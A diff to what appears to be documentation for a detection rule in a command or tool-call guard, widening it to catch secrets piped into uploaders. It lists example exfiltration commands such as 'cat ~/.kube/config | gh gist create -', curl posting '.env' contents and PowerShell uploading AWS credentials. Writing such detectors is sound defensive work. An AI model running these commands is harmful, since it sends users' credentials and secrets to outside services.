@@ -149,7 +149,9 @@ server's name and its own, and the kind of resource its arguments name. The rule
   substituted into a ``curl`` (``-d "$(cat .env)"``, also inside a JSON body's escaped
   quotes) or printed by ``echo "$(cat F)"`` into a sender, copied to a remote host by
   ``scp``, ``rsync`` or a cloud copy (not what ``--exclude``, ``--exclude-from``,
-  ``--filter``, ``tar -X`` or ``zip -x`` leaves out), sent by PowerShell's
+  ``--filter``, ``tar -X`` or ``zip -x`` leaves out), or piped or redirected into one that
+  uploads its standard input (``cat ~/.kube/config | gh gist create -``, ``gh gist create <
+  F``, ``aws s3 cp - s3://b/k``, ``rclone rcat``), sent by PowerShell's
   ``Invoke-WebRequest`` or ``Invoke-RestMethod`` (``-InFile
   $env:USERPROFILE\\.aws\\credentials``, ``-Body (Get-Content …)``, a variable holding it,
   piped in), put by the script of ``sftp``, ``ftp``, ``lftp`` or ``smbclient`` (``sftp h <<<
